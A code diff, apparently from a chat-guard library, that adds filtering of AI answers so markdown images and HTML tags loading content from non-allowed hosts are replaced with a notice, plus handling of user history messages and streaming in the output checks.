+        if found is None:  # a reference image, one not closed yet, or one this reading cannot follow
+            if not final and "\n\n" not in text[start:]:
+                return None, ""
+            return start + 2, "!\\["  # shown as text: nothing loaded
+        dest = found["dest"][1:-1] if found["dest"].startswith("<") else found["dest"]
+        host = self._refused(html.unescape(_MD_ESCAPE.sub(r"\1", dest)))
+        return found.end(), found[0] if host is None else self._instead("image", host)
+
+    def _tag(self, text: str, start: int, final: bool) -> tuple[int | None, str]:
+        found = _TAG.match(text, start)
+        if found is None:  # not closed: held back, then shown as text
+            return (None, "") if not final else (start + 1, "&lt;")
+        name = found["name"].lower()
+        urls = _tag_urls(name, found["attrs"])
+        hosts = [host for url in urls if (host := self._refused(url)) is not None]
+        if name in _EMBEDS and not hosts:  # a page, script or style sheet of its own: never loaded
+            hosts = ["another site"]
+        if not hosts:
+            return found.end(), found[0]
+        return found.end(), self._instead("content", hosts[0])
+
+    def _refused(self, url: str) -> str | None:
+        """None when loading ``url`` sends nothing to another host (a relative url, data:, an allowed host);
+        else what to call where it goes."""
+        url = re.sub(r"[\x00-\x20\x7f]", "", url).replace("\\", "/")
+        parts = urlsplit(url)
+        scheme = parts.scheme.lower()
+        if scheme == "data" or (not scheme and not parts.netloc):
+            return None
+        try:
+            host = (parts.hostname or "").lower()
+        except ValueError:
+            host = ""
+        if scheme in ("http", "https", "") and host and any(host == h or host.endswith("." + h) for h in self.hosts):
+            return None
+        return host if re.fullmatch(r"[a-z0-9.:\[\]-]{1,253}", host) else "another site"
+
+    def _instead(self, kind: str, host: str) -> str:
+        if self.mode == "remove":
+            return ""
+        return f"[{kind} from {host} not shown]" if kind == "image" else f"[{kind} from {host} not loaded]"
+
+
+def _tag_urls(name: str, attrs: str) -> list[str]:
+    """The urls an HTML tag's attributes load as it is shown: src, poster, data, srcset's, a style's url(),
+    an href (not a link's: followed on a click only); a srcdoc or a style that hides what it loads counts
+    as a url of no host."""
+    urls: list[str] = []
+    for found in _ATTR.finditer(attrs):
+        key = found["name"].lower()
+        value = html.unescape((found["value"] or "").strip("\"'"))
+        if key in _URL_ATTRS and not (key == "href" and name in _CLICKED):
+            urls.append(value)
+        elif key in ("srcset", "imagesrcset"):
+            urls.extend(part.split()[0] for part in value.split(",") if part.split())
+        elif key == "srcdoc" or (key == "http-equiv" and value.lower() == "refresh"):
+            urls.append(_NOWHERE)
+        elif key == "style":
+            urls.extend(m["url"] for m in _CSS_URL.finditer(value))
+            if any(mark in value.lower() for mark in _CSS_LOADS):
+                urls.append(_NOWHERE)
+    return urls
+
+
 # -- answers in messages --------------------------------------------------------------------------
 
 _END = object()  # a stream that ended before its first item
@@ -865,6 +1383,12 @@ class _View:
     texts: list[str]
     fields: dict[tuple[Any, ...], str]  # ("metadata", key) or ("options", index, key): its text
     files: list[Any] = field(default_factory=list)  # the file parts of its content, in order
+    role: Any = None
+    checked: bool = False  # an answer of the history as checked this turn: shown as it is
+
+    @classmethod
+    def settled(cls, message: Any) -> _View:
+        return cls(message, message.get("content"), [], {}, role=message.get("role"), checked=True)
 
     @classmethod
     def of(cls, message: Any, files: bool = False) -> _View:
@@ -888,7 +1412,8 @@ class _View:
         else:
             raise _unreadable(message, "a message")
         texts, found = _parts(content, files)
-        return cls(message, content, texts, _fields(metadata, options) | _file_texts(found), found)
+        role = message.role if isinstance(message, ChatMessage) else message.get("role")
+        return cls(message, content, texts, _fields(metadata, options) | _file_texts(found), found, role)
 
     def shown(self, content: Any, fields: dict[tuple[Any, ...], str | None]) -> Any:
         """The message with ``content`` and the checked ``fields`` (None: blocked), in its own type. Its
@@ -911,6 +1436,13 @@ class _View:
         if isinstance(self.message, ChatMessage):
             return dataclasses.replace(self.message, **changes)
         return {**self.message, **changes}
+
+
+def _known(message: Any, known: Sequence[Any], i: int) -> bool:
+    """Whether the ``i``-th message of a list answered is the history's answer at that place, as it was
+    checked this turn (as output and as input): a Blocks handler returns the whole history."""
+    return (i < len(known) and isinstance(message, Mapping) and message.get("role") == "assistant"
+            and message == known[i])
 
 
 def _multimodal(message: Mapping[str, Any], content: Any) -> dict[str, Any]:
@@ -1031,10 +1563,12 @@ def _with_file_texts(shown: Any, texts: dict[str, str | None]) -> Any:
 
 
 def _unreadable(value: Any, where: str) -> GuardConfigError:
+    hint = ("; a tuple is the answer of a ChatInterface with additional_outputs: tell guard_chat how many, "
+            "guard_chat(fn, pipeline, additional_outputs=N)") if isinstance(value, tuple) else ""
     return GuardConfigError(
         f"the chat function answered with {type(value).__name__} as {where}: the output guards read text, "
         "so it cannot be checked, and it is not shown unchecked; answer text, or messages whose content, "
-        "metadata title and log, and options are text", where="guard_chat")
+        f"metadata title and log, and options are text{hint}", where="guard_chat")
 
 
 @dataclass
@@ -1128,8 +1662,13 @@ class _Answer:
     """
 
     def __init__(self, pipeline: Pipeline, context: Context, *, raise_on_block: bool,
-                 check_file: Callable[[Any], Steps[Any]] | None = None) -> None:
+                 check_file: Callable[[Any], Steps[Any]] | None = None, known: Sequence[Any] = (),
+                 own: set[str] | frozenset[str] = frozenset(), quiet: Pipeline | None = None,
+                 remote: _Remote | None = None) -> None:
         self.pipeline, self.context = pipeline, replace(context, stage=Stage.OUTPUT)
+        self.known, self.own, self.quiet = known, own, quiet or pipeline
+        self.remote = remote or _Remote()
+        self.final = True  # False while a stream goes on: an image not closed yet is held back
         self.raise_on_block = raise_on_block
         self.checks = bool(pipeline.guards)  # output guards of any modality: nothing passes unchecked
         # A file's path (or name) through the output image guards: what to show instead, or _Refused.
@@ -1150,6 +1689,8 @@ class _Answer:
             return answer
         self._read(answer)
         for key, text in self._keyed():
+            if (yield from self._users(key, text)):
+                continue
             verdict = yield _Check(self.pipeline, text, Modality.TEXT, self.context, Stage.OUTPUT)
             self.texts[key] = _Text(verdict.output) if verdict.allowed else _Text(blocked=verdict)  # type: ignore[arg-type]
         yield from self._check_fields()
@@ -1160,18 +1701,21 @@ class _Answer:
 
     def update(self, answer: Any) -> Steps[None]:
         """A streamed answer's next item: the whole answer so far (each text must extend what it was)."""
+        self.final = False
         self._read(answer)
         for key, text in self._keyed():
+            if key not in self.texts and (yield from self._users(key, text)):
+                continue
             slot = self.texts.get(key)
             if slot is None:
                 # after a notice of its own (see _notice), the notice is not due again
                 context = self.context if self.notice is None else replace(self.context, turn=self.context.turn + 1)
                 slot = self.texts[key] = _Text(stream=self.pipeline.stream_output((), context))
                 slot.shown += "".join((yield _Push(slot.stream, "begin")))
-            if slot.blocked is not None:
+            if slot.blocked is not None or slot.stream is None:  # blocked, or the user's own words
                 continue
             if not text.startswith(slot.source):  # shown text cannot be taken back: fail closed
-                slot.blocked = _refusal("a streamed message changed text it had already yielded")
+                slot.blocked = _rewound()
                 continue
             chunk, slot.source = text[len(slot.source):], text
             if chunk:
@@ -1192,10 +1736,24 @@ class _Answer:
 
     def finish(self) -> Steps[None]:
         """The stream is over: each text's held tail and final additions (labels, disclaimers)."""
+        self.final = True
         for slot in self.texts.values():
-            if slot.blocked is None:
+            if slot.blocked is None and slot.stream is not None:
                 yield from self._end(slot)
         self._raise_if_blocked()
+
+    def _users(self, key: tuple[int, int], text: str) -> Steps[bool]:
+        """A text of a message from the user (a Blocks handler returns the whole history) that is one of the
+        user's own, as checked: shown with the output guards' redactions, without the AI label or notice (it
+        is no AI output), and not recorded (it was, when sent). Any other text is checked as the AI's."""
+        if self.views[key[0]].role != "user" or text not in self.own:
+            return False
+        verdict = yield _Check(self.quiet, text, Modality.TEXT, self.context, Stage.OUTPUT)
+        if verdict.allowed and isinstance(verdict.output, str):
+            self.texts[key] = _Text(verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)])
+        else:
+            self.texts[key] = _Text(blocked=verdict)
+        return True
 
     def _notice(self) -> Steps[None]:
         """For an answer that shows files and no text, the ai_disclosure guards' output for an empty answer
@@ -1225,7 +1783,9 @@ class _Answer:
 
     def _read(self, answer: Any) -> None:
         self.many = isinstance(answer, list)
-        self.views = [_View.of(m, self.check_file is not None) for m in (answer if self.many else [answer])]
+        files = self.check_file is not None
+        self.views = [_View.settled(m) if self.many and _known(m, self.known, i) else _View.of(m, files)
+                      for i, m in enumerate(answer if self.many else [answer])]
 
     def _check_files(self) -> Steps[None]:
         """Each file shown through the output image guards (once each, while it is unchanged)."""
@@ -1277,9 +1837,11 @@ class _Answer:
         verdict = self.verdicts[text]
         if not verdict.allowed or not isinstance(verdict.output, str):
             return None
-        return verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)]
+        return self.remote.shown(verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)])
 
     def _shown(self, i: int, view: _View) -> Any:
+        if view.checked:
+            return view.message
         fields = {key: self._field(text) for key, text in view.fields.items()}
         blocked = self._block(i, view)
         if blocked is not None:
@@ -1288,7 +1850,8 @@ class _Answer:
             files = (_with_file_texts(self.files[_file_key(f)].shown,
                                       {name: fields[(name, n)] for name in _FILE_TEXTS if (name, n) in fields})
                      for n, f in enumerate(view.files))
-            content = _with_parts(view.content, (self.texts[(i, j)].shown for j in range(len(view.texts))), files)
+            texts = (self.remote.shown(self.texts[(i, j)].shown, final=self.final) for j in range(len(view.texts)))
+            content = _with_parts(view.content, texts, files)
         return view.shown(content, fields)
 
 
